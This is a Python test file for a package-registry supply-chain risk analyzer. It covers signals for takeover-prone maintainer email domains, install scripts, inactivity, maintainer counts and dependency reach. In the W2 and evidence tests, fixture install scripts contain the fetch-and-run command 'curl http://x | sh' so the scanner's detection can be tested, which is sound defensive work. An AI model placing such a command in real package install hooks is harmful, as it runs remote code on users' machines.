"""Per-signal analyzer behavior on hand-built corpora."""

from __future__ import annotations

import random
from datetime import timedelta, timezone, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from weaklink.ingest import US_PER_DAY, epoch_us, format_epoch_us, format_timestamp, from_epoch_us
from weaklink.providers import DomainStatus, STATUS_AVAILABLE, STATUS_REGISTERED, STATUS_UNKNOWN
from weaklink.reach import build_dependents_index, build_maintainer_index
from weaklink.signals import (
    EVIDENCE_SCHEMAS,
    AnalyzerConfig,
    WeakLinkFinding,
    analyze_w1,
    analyze_w2,
    analyze_w3,
    analyze_w4,
    analyze_w5,
    analyze_w6,
    is_inactive,
    mean_maintainers,
    sort_findings,
)

from conftest import REF, corpus_records, email_domains, load_documents, make_corpus, make_record, owned_by_key, person, random_corpus

EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)


class MapDomainProvider:
    def __init__(self, statuses):
        self.statuses = statuses
        self.calls = []

    def check(self, domain):
        self.calls.append(domain)
        return DomainStatus(domain=domain, status=self.statuses.get(domain, STATUS_UNKNOWN), checked_at=EPOCH, source="fixture")


class ExplodingProvider:
    """Must never be treated as available; analyzers see unknown."""

    def check(self, domain):
        return DomainStatus(domain=domain, status=STATUS_UNKNOWN, checked_at=EPOCH, source="live")


def cfg_for(corpus, **kwargs) -> AnalyzerConfig:
    return AnalyzerConfig(**kwargs).resolved(corpus)


def evidence_of(finding) -> dict:
    # The typed evidence by key, read back from the finding's value tuple.
    return dict(zip(EVIDENCE_SCHEMAS[finding.signal], finding.values, strict=True))


# --- W1 ------------------------------------------------------------------


def test_w1_fan_out_per_owned_package():
    m = person(email="m@oldsite.io")
    other = person(email="k@fine.example")
    records = [make_record(f"p{i}", maintainers=(m,)) for i in range(3)]
    records.append(make_record("q", maintainers=(other,)))
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    provider = MapDomainProvider({"oldsite.io": STATUS_AVAILABLE, "fine.example": STATUS_REGISTERED})
    findings, histogram = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg)
    assert len(findings) == 3
    assert {f.subject_id for f in findings} == {"p0", "p1", "p2"}
    assert all(evidence_of(f) == {"domain": "oldsite.io", "maintainer_key": "m@oldsite.io"} for f in findings)
    # The findings of one maintainer share one evidence tuple.
    assert all(f.values is findings[0].values for f in findings)
    assert histogram == {"fine.example": 1, "oldsite.io": 3}


def test_w1_one_finding_when_two_listed_addresses_share_an_identity():
    corpus = make_corpus([make_record("p", maintainers=(person(email="A@dead.io"), person(email="a@dead.io")))])
    mindex = build_maintainer_index(corpus)
    assert {key: tuple(owned) for key, owned in owned_by_key(corpus, mindex).items()} == {"a@dead.io": (0,)}
    provider = MapDomainProvider({"dead.io": STATUS_AVAILABLE})
    findings, histogram = analyze_w1(corpus, mindex, provider, cfg_for(corpus))
    assert [(f.subject_id, f.values) for f in findings] == [("p", ("dead.io", "a@dead.io"))]
    assert histogram == {"dead.io": 2}


def test_w1_all_registered_yields_nothing():
    m = person(email="m@solid.example")
    corpus = make_corpus([make_record("p", maintainers=(m,))])
    cfg = cfg_for(corpus)
    provider = MapDomainProvider({"solid.example": STATUS_REGISTERED})
    findings, _ = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg)
    assert findings == []


def test_w1_provider_failure_never_available():
    m = person(email="m@flaky.example")
    corpus = make_corpus([make_record("p", maintainers=(m,))])
    cfg = cfg_for(corpus)
    findings, _ = analyze_w1(corpus, build_maintainer_index(corpus), ExplodingProvider(), cfg)
    assert findings == []


def test_w1_name_only_maintainers_have_no_domain():
    m = person(name="Anonymous")
    corpus = make_corpus([make_record("p", maintainers=(m,))])
    cfg = cfg_for(corpus)
    provider = MapDomainProvider({})
    findings, histogram = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg)
    assert findings == []
    assert histogram == {}
    assert provider.calls == []
    # A name that reads like an address is still only a name: once another
    # maintainer makes its "domain" available, it has no account to take over.
    named = person(name="x@dead.io")
    corpus = make_corpus(
        [make_record("a", maintainers=(named,)), make_record("b", maintainers=(person(email="y@dead.io"),))]
    )
    provider = MapDomainProvider({"dead.io": STATUS_AVAILABLE})
    findings, histogram = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg_for(corpus))
    assert [(f.subject_id, f.value("maintainer_key")) for f in findings] == [("b", "y@dead.io")]
    assert histogram == {"dead.io": 1}


def test_w1_counts_the_name_only_entries_of_a_key_an_email_spells(tmp_path):
    # Name-only keys ("name:" + name) and email keys share one namespace: the
    # email "Name:X@dead.io" and the name "x@dead.io" are one identity. Its
    # domain is counted for each entry that lists it, the name-only one too.
    versions = {"a": {"maintainers": [{"name": "x@dead.io"}]}, "b": {"maintainers": [{"email": "Name:X@dead.io"}]}}
    corpus = load_documents(tmp_path, versions)
    assert [rec.maintainers for rec in corpus_records(corpus)] == [("name:x@dead.io",)] * 2
    assert email_domains(corpus) == {"name:x@dead.io": "dead.io"}
    provider = MapDomainProvider({"dead.io": STATUS_AVAILABLE})
    findings, histogram = analyze_w1(corpus, build_maintainer_index(corpus), provider, cfg_for(corpus))
    assert [(f.subject_id, f.value("maintainer_key")) for f in findings] == [
        ("a", "name:x@dead.io"),
        ("b", "name:x@dead.io"),
    ]
    assert histogram == {"dead.io": 2}


# --- W2 ------------------------------------------------------------------


def test_w2_flags_install_keys_only():
    corpus = make_corpus(
        [
            make_record("a", scripts={"postinstall": "node setup.js"}),
            make_record("b", scripts={"test": "node test.js"}),
            make_record("c", scripts={"PreInstall": "node x.js", "build": "tsc"}),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w2(corpus, cfg)
    assert {f.subject_id: f.value("script_key") for f in findings} == {"a": ("postinstall",), "c": ("PreInstall",)}
    assert all(f.value("has_suspicious_tokens") is False for f in findings)
    assert findings[0].to_dict()["evidence"] == {"has_suspicious_tokens": "false", "script_key": "postinstall"}


def test_w2_token_scan_enriches_but_does_not_gate():
    corpus = make_corpus(
        [
            make_record("bad", scripts={"install": "curl http://x | sh"}),
            make_record("sneaky", scripts={"build": "curl http://x | sh"}),  # not an install key
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w2(corpus, cfg)
    assert [f.subject_id for f in findings] == ["bad"]
    assert findings[0].value("has_suspicious_tokens") is True
    assert findings[0].to_dict()["evidence"]["has_suspicious_tokens"] == "true"


# --- W3 ------------------------------------------------------------------


def test_w3_inactive_package():
    corpus = make_corpus(
        [
            make_record("old", last_modified=REF - timedelta(days=3 * 365)),
            make_record("fresh", last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    assert inactive == {"old"}


def test_w3_boundary_is_strict():
    corpus = make_corpus(
        [
            make_record("edge", last_modified=REF - timedelta(days=730)),
            make_record("past", last_modified=REF - timedelta(days=730, hours=1)),
            make_record("fresh", last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    assert inactive == {"past"}


def test_w3_inactive_maintainer_needs_every_maintainer_stale():
    stale = person(email="stale@dead.example")
    busy = person(email="busy@alive.example")
    corpus = make_corpus(
        [
            # Both maintainers' registry-wide activity is stale.
            make_record("fully-stale", maintainers=(stale,), last_modified=REF - timedelta(days=900)),
            # Inactive package but one maintainer is active elsewhere.
            make_record("half-stale", maintainers=(stale, busy), last_modified=REF - timedelta(days=900)),
            make_record("busy-home", maintainers=(busy,), last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    inactive_maint = {f.subject_id for f in findings if f.signal == "W3_inactive_maintainer"}
    assert inactive == {"fully-stale", "half-stale"}
    assert inactive_maint == {"fully-stale"}


def test_w3_inactive_maintainer_subset_of_inactive_pkg():
    import random

    rng = random.Random(7)
    pool = [person(email=f"m{j}@pool.example") for j in range(10)]
    records = []
    for i in range(120):
        records.append(
            make_record(
                f"p{i}",
                maintainers=tuple(rng.sample(pool, rng.randrange(0, 3))),
                last_modified=REF - timedelta(days=rng.randrange(0, 1500)),
            )
        )
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    inactive = {f.subject_id for f in findings if f.signal == "W3_inactive_pkg"}
    inactive_maint = {f.subject_id for f in findings if f.signal == "W3_inactive_maintainer"}
    assert inactive_maint <= inactive


def test_w3_deprecated_requires_stale_deprecation():
    corpus = make_corpus(
        [
            make_record("old-deprecated", deprecated="use x", last_modified=REF - timedelta(days=900)),
            make_record("new-deprecated", deprecated="use y", last_modified=REF),
            make_record("old-plain", last_modified=REF - timedelta(days=900)),
            make_record("anchor", last_modified=REF),
        ]
    )
    cfg = cfg_for(corpus)
    findings = analyze_w3(corpus, build_maintainer_index(corpus), cfg)
    deprecated = {f.subject_id for f in findings if f.signal == "W3_deprecated"}
    assert deprecated == {"old-deprecated"}


def test_w3_threshold_monotonicity():
    import random

    rng = random.Random(3)
    records = [
        make_record(f"p{i}", last_modified=REF - timedelta(days=rng.randrange(0, 1800))) for i in range(150)
    ]
    records.append(make_record("anchor", last_modified=REF))
    corpus = make_corpus(records)
    mindex = build_maintainer_index(corpus)
    counts = []
    for days in (365, 730, 1095):
        cfg = AnalyzerConfig(inactivity_days=days).resolved(corpus)
        findings = analyze_w3(corpus, mindex, cfg)
        counts.append(sum(1 for f in findings if f.signal == "W3_inactive_pkg"))
    assert counts[0] >= counts[1] >= counts[2]


# Any UTC time a corpus can hold: parse_timestamp keeps years 1 to 9999 in UTC.
UTC_TIMES = st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59, 59, 999999)).map(
    lambda dt: dt.replace(tzinfo=timezone.utc)
)


@given(UTC_TIMES)
@example(datetime(1, 1, 1, tzinfo=timezone.utc))
@example(datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc))
@example(datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc))
def test_epoch_microseconds_format_as_the_datetime(dt):
    us = epoch_us(dt)
    assert from_epoch_us(us) == dt
    assert format_epoch_us(us) == format_timestamp(dt)


@given(UTC_TIMES, UTC_TIMES, st.integers(1, timedelta.max.days))
@example(  # one microsecond before the window's edge, before 1970
    datetime(1960, 1, 1, tzinfo=timezone.utc), datetime(1957, 12, 31, 23, 59, 59, 999999, tzinfo=timezone.utc), 731
)
@example(datetime(1960, 1, 1, tzinfo=timezone.utc), datetime(1958, 1, 1, tzinfo=timezone.utc), 730)  # on the edge
@example(datetime(1, 1, 1, tzinfo=timezone.utc), datetime(9999, 12, 31, tzinfo=timezone.utc), 1)  # a future time
def test_epoch_microsecond_arithmetic_is_the_datetime_arithmetic(reference, last_modified, days):
    cfg = AnalyzerConfig(inactivity_days=days, reference_time=reference)
    ref_us, lm_us = epoch_us(reference), epoch_us(last_modified)
    assert is_inactive(lm_us, cfg) == (reference - last_modified > cfg.inactivity_window)
    # Floor division floors a negative age as timedelta.days does.
    assert (ref_us - lm_us) // US_PER_DAY == (reference - last_modified).days


# --- W4 ------------------------------------------------------------------


def test_w4_flags_extreme_maintainer_count():
    crowd = tuple(person(email=f"m{j}@crowd.example") for j in range(30))
    records = [make_record("crowded", maintainers=crowd)]
    records += [make_record(f"p{i}", maintainers=(person(email=f"s{i}@solo.example"),)) for i in range(99)]
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w4(corpus, cfg)
    assert [f.subject_id for f in findings] == ["crowded"]
    assert findings[0].value("maintainer_count") == 30
    expected_avg = (30 + 99) / 100
    assert findings[0].value("registry_avg") == expected_avg
    assert findings[0].to_dict()["evidence"] == {"maintainer_count": "30", "registry_avg": f"{expected_avg:.4f}"}
    assert abs(mean_maintainers(corpus) - expected_avg) < 1e-12


def test_w4_degenerate_ranking_emits_all():
    records = [make_record(f"p{i}", maintainers=(person(email=f"m{i}@x.example"),)) for i in range(50)]
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w4(corpus, cfg)
    assert len(findings) == 50  # every package ties with the cutoff


def test_w4_zero_maintainer_corpus_emits_nothing():
    corpus = make_corpus([make_record(f"p{i}") for i in range(10)])
    cfg = cfg_for(corpus)
    assert analyze_w4(corpus, cfg) == []


# --- W5 ------------------------------------------------------------------


def test_w5_low_ratio_flagged():
    records = [make_record("imbalanced", maintainers=(person(email="solo@x.example"),), contributor_count=40)]
    for i in range(99):
        records.append(
            make_record(
                f"balanced{i}",
                maintainers=tuple(person(email=f"m{i}x{j}@y.example") for j in range(3)),
                contributor_count=2,
            )
        )
    corpus = make_corpus(records)
    cfg = cfg_for(corpus)
    findings = analyze_w5(corpus, cfg)
    assert [f.subject_id for f in findings] == ["imbalanced"]
    assert evidence_of(findings[0]) == {"maintainers": 1, "contributors": 40, "ratio": 1 / 40}
    assert findings[0].to_dict()["evidence"] == {"maintainers": "1", "contributors": "40", "ratio": f"{1 / 40:.6f}"}


def test_w5_zero_contributor_packages_excluded():
    corpus = make_corpus([make_record("no-contrib", maintainers=(person(email="a@b.example"),))])
    cfg = cfg_for(corpus)
    assert analyze_w5(corpus, cfg) == []


# --- W6 ------------------------------------------------------------------


def _w6_corpus():
    big = person(email="big@owner.example")
    smalls = [person(email=f"tiny{j}@owner.example") for j in range(9)]
    records = []
    # The overloaded maintainer owns 5 packages, 3 of them inactive, with
    # many distinct dependents.
    for i in range(5):
        stale = i < 3
        records.append(
            make_record(
                f"owned{i}",
                maintainers=(big,),
                last_modified=REF - timedelta(days=900 if stale else 10),
                dependencies=("helper-lib",) if i % 2 == 0 else (),
            )
        )
    for j, small in enumerate(smalls):
        records.append(make_record(f"minor{j}", maintainers=(small,), last_modified=REF))
    for d in range(30):
        deps = (f"owned{d % 5}",)
        records.append(make_record(f"user{d}", maintainers=(smalls[d % 9],), last_modified=REF, dependencies=deps))
    return make_corpus(records)


def test_w6_flags_top_reach_and_evidence_shares():
    corpus = _w6_corpus()
    cfg = cfg_for(corpus, top_percent=10.0)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    findings = analyze_w6(corpus, mindex, dindex, cfg)
    maint = [f for f in findings if f.subject_kind == "maintainer"]
    assert [f.subject_id for f in maint] == ["big@owner.example"]
    evidence = evidence_of(maint[0])
    assert evidence["owned_count"] == 5
    assert evidence["reach"] == 30
    assert evidence["inactive_owned_share"] == 3 / 5
    assert evidence["dependency_using_share"] == 3 / 5
    assert maint[0].to_dict()["evidence"] == {
        "owned_count": "5",
        "reach": "30",
        "inactive_owned_share": "0.6000",
        "dependency_using_share": "0.6000",
        "maintainer_key": "big@owner.example",
    }
    pkg_findings = [f for f in findings if f.subject_kind == "package"]
    assert [f.subject_id for f in pkg_findings] == [f"owned{i}" for i in range(5)]
    assert all(f.values is maint[0].values for f in pkg_findings)


def test_w6_zero_reach_not_flagged_unless_all_zero():
    m1 = person(email="a@one.example")
    m2 = person(email="b@two.example")
    corpus = make_corpus(
        [
            make_record("x", maintainers=(m1,)),
            make_record("y", maintainers=(m2,), dependencies=("x",)),
        ]
    )
    cfg = cfg_for(corpus, top_percent=50.0)
    findings = analyze_w6(corpus, build_maintainer_index(corpus), build_dependents_index(corpus), cfg)
    maints = {f.subject_id for f in findings if f.subject_kind == "maintainer"}
    assert maints == {"a@one.example"}


@pytest.mark.parametrize("kinds", [("runtime",), ("runtime", "dev"), ("dev",)])
def test_w6_dependency_using_share_reads_runtime_dependencies_whatever_the_kinds(tmp_path, kinds):
    # "owner" owns four packages: one with runtime dependencies, one that
    # lists only itself at runtime, one with dev dependencies only and one
    # with none. Two of the four declare runtime dependencies under every
    # scan, as the share counted them before records kept only the scan's kinds.
    owner = [{"name": "Owner", "email": "owner@x.example"}]
    versions = {
        "uses-lib": {"maintainers": owner, "dependencies": ["lib"]},
        "self-only": {"maintainers": owner, "dependencies": ["self-only"]},
        "dev-only": {"maintainers": owner, "devDependencies": ["tool"]},
        "bare": {"maintainers": owner},
        "lib": {"dependencies": ["uses-lib"], "devDependencies": ["bare"]},
    }
    corpus = load_documents(tmp_path, versions, dep_kinds=kinds)
    assert [rec.has_runtime_dependencies for rec in corpus_records(corpus)] == [False, False, True, True, True]
    cfg = cfg_for(corpus, top_percent=100.0)
    findings = analyze_w6(corpus, build_maintainer_index(corpus), build_dependents_index(corpus), cfg)
    (owner_finding,) = [f for f in findings if f.subject_id == "owner@x.example"]
    assert owner_finding.value("dependency_using_share") == 2 / 4
    assert owner_finding.value("owned_count") == 4


# --- shared contracts -------------------------------------------------------


def test_findings_reject_unknown_evidence_keys():
    with pytest.raises(ValueError):
        WeakLinkFinding.of(subject_kind="package", subject_id="x", signal="W2", evidence={"bogus": "1"})
    with pytest.raises(ValueError):
        WeakLinkFinding.of(subject_kind="package", subject_id="x", signal="W9", evidence={})
    with pytest.raises(ValueError):
        WeakLinkFinding("package", "x", "W9", ())
    # Every schema key is required, and no other: one missing, one extra, both.
    for evidence in (
        {"has_suspicious_tokens": True},
        {"has_suspicious_tokens": True, "script_key": ("install",), "bogus": "1"},
        {"script_key": ("install",), "bogus": True},
    ):
        with pytest.raises(ValueError):
            WeakLinkFinding.of("package", "x", "W2", evidence)


def test_finding_holds_values_in_schema_order():
    assert all(list(keys) == sorted(keys) for keys in EVIDENCE_SCHEMAS.values())
    f = WeakLinkFinding.of("package", "x", "W2", {"script_key": ("install",), "has_suspicious_tokens": False})
    assert f.values == (False, ("install",))
    assert f.value("script_key") == ("install",)
    with pytest.raises(ValueError):
        f.value("domain")
    with pytest.raises(ValueError):
        WeakLinkFinding("package", "x", "W2", (False,))


def test_written_evidence_is_strings_for_every_signal():
    stale = person(email="stale@gone.example")
    crowd = tuple(person(email=f"c{j}@crowd.example") for j in range(3))
    old = REF - timedelta(days=900)
    corpus = make_corpus(
        [
            make_record("flagged", maintainers=(stale,), contributor_count=5, deprecated=True, last_modified=old,
                        scripts={"install": "node x.js", "preinstall": "curl x"}),
            make_record("message", maintainers=(stale,), deprecated="use y", last_modified=old,
                        dependencies=("flagged",)),
            make_record("fresh", maintainers=crowd, contributor_count=2, dependencies=("message",)),
        ]
    )
    cfg = cfg_for(corpus, top_percent=50.0)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    findings, _ = analyze_w1(corpus, mindex, MapDomainProvider({"gone.example": STATUS_AVAILABLE}), cfg)
    findings += analyze_w2(corpus, cfg) + analyze_w3(corpus, mindex, cfg) + analyze_w4(corpus, cfg)
    findings += analyze_w5(corpus, cfg) + analyze_w6(corpus, mindex, dindex, cfg)
    assert {f.signal for f in findings} == set(EVIDENCE_SCHEMAS)
    for f in findings:
        written = f.to_dict()["evidence"]
        assert list(written) == list(EVIDENCE_SCHEMAS[f.signal])
        assert all(isinstance(value, str) for value in written.values()), written
    deprecated = {f.subject_id: f.to_dict()["evidence"] for f in findings if f.signal == "W3_deprecated"}
    assert deprecated == {
        "flagged": {"deprecated": "true", "last_modified": "2021-11-27T12:00:00.000Z"},
        "message": {"deprecated": "use y", "last_modified": "2021-11-27T12:00:00.000Z"},
    }
    w2 = next(f for f in findings if f.signal == "W2")
    assert evidence_of(w2) == {"script_key": ("install", "preinstall"), "has_suspicious_tokens": True}
    assert w2.to_dict()["evidence"] == {"has_suspicious_tokens": "true", "script_key": "install,preinstall"}


def test_analyzers_pure_and_sorted():
    corpus = _w6_corpus()
    cfg = cfg_for(corpus, top_percent=10.0)
    mindex = build_maintainer_index(corpus)
    dindex = build_dependents_index(corpus)
    runs = []
    for _ in range(2):
        findings = analyze_w6(corpus, mindex, dindex, cfg) + analyze_w3(corpus, mindex, cfg) + analyze_w2(corpus, cfg)
        runs.append([f.to_dict() for f in findings])
    assert runs[0] == runs[1]
    w3 = analyze_w3(corpus, mindex, cfg)
    expected = sorted(w3, key=WeakLinkFinding.sort_key)
    sort_findings(w3)
    assert w3 == expected


def test_sort_findings_breaks_ties_by_written_evidence():
    def w1(pkg, key):
        return WeakLinkFinding.of("package", pkg, "W1", {"domain": "d.io", "maintainer_key": key})

    def w4(pkg, count):
        return WeakLinkFinding.of("package", pkg, "W4", {"maintainer_count": count, "registry_avg": 1.5})

    # '"' sorts before '#' as a character but after it once JSON escapes it;
    # 9 sorts after 10 as a written string.
    findings = [w4("p", 9), w1("b", "a#x@d.io"), w1("a", "z@d.io"), w4("p", 10), w1("b", 'a"x@d.io'), w4("q", 1)]
    expected = sorted(findings, key=WeakLinkFinding.sort_key)
    sort_findings(findings)
    assert findings == expected
    assert findings == [w1("a", "z@d.io"), w1("b", "a#x@d.io"), w1("b", 'a"x@d.io'), w4("p", 10), w4("p", 9), w4("q", 1)]


def test_sort_findings_over_all_analyzers_joined_in_any_order_is_report_order():
    # The pipeline joins the six analyzers' findings and sorts them once.
    domains = MapDomainProvider({f"pool{i}.example": STATUS_AVAILABLE for i in range(3)})
    rng = random.Random(0)
    for seed in range(8):
        corpus = random_corpus(seed=seed, size=150)
        cfg = cfg_for(corpus, top_percent=10.0)
        mindex = build_maintainer_index(corpus)
        dindex = build_dependents_index(corpus)
        parts = [
            analyze_w1(corpus, mindex, domains, cfg)[0],
            analyze_w2(corpus, cfg),
            analyze_w3(corpus, mindex, cfg),
            analyze_w4(corpus, cfg),
            analyze_w5(corpus, cfg),
            analyze_w6(corpus, mindex, dindex, cfg),
        ]
        everything = sorted((f for part in parts for f in part), key=WeakLinkFinding.sort_key)
        assert len({f.signal for f in everything}) >= 6
        shuffled = [f for part in parts for f in part]
        rng.shuffle(shuffled)
        for joined in ([f for part in parts for f in part], [f for part in parts[::-1] for f in part], shuffled):
            sort_findings(joined)
            assert [f.to_dict() for f in joined] == [f.to_dict() for f in everything], seed


def test_reference_time_defaults_to_corpus_max():
    corpus = make_corpus(
        [
            make_record("a", last_modified=REF - timedelta(days=5)),
            make_record("b", last_modified=REF - timedelta(days=1)),
        ]
    )
    cfg = AnalyzerConfig().resolved(corpus)
    assert cfg.reference_time == REF - timedelta(days=1)


def test_config_validation_and_round_trip():
    with pytest.raises(ValueError):
        AnalyzerConfig(inactivity_days=0)
    with pytest.raises(ValueError):
        AnalyzerConfig(top_percent=0)
    cfg = AnalyzerConfig(top_percent=2.5, inactivity_days=365)
    assert AnalyzerConfig.from_dict(cfg.to_dict()) == cfg
